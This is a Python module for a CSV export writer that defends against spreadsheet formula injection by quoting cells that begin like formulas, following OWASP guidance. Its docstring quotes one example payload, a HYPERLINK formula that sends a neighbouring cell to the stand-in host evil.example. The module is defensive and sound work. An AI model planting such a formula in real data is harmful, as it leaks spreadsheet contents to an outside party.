"""The one CSV writer of every export: no cell of it runs as a formula in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets, so a customer named `=HYPERLINK("http://evil.example/?x="&B2,"Klik")`
would turn a campaign export into a link that leaks the row beside it. As OWASP recommends
(https://owasp.org/www-community/attacks/CSV_Injection) such a cell gets a leading single
quote, which makes it text. Numbers stay numbers. (defusedcsv does the same for `= + - @`
but not for tab and carriage return, and it rewrites `|` inside values.)
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a cell no spreadsheet evaluates: text that starts like a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` (Excel dialect) whose rows are written through `safe_cell`."""

    def __init__(self, handle: TextIO) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, each cell neutralised."""
        self._writer.writerow([safe_cell(value) for value in row])


def stream_csv(header: Iterable[str], rows: Iterable[Iterable[Any]], batch: int = 1000) -> Iterator[str]:
    """The CSV text of `header` and `rows`, yielded every `batch` rows (a streamed download never holds it all)."""
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(header)
    for n, row in enumerate(rows, 1):
        writer.writerow(row)
        if n % batch == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
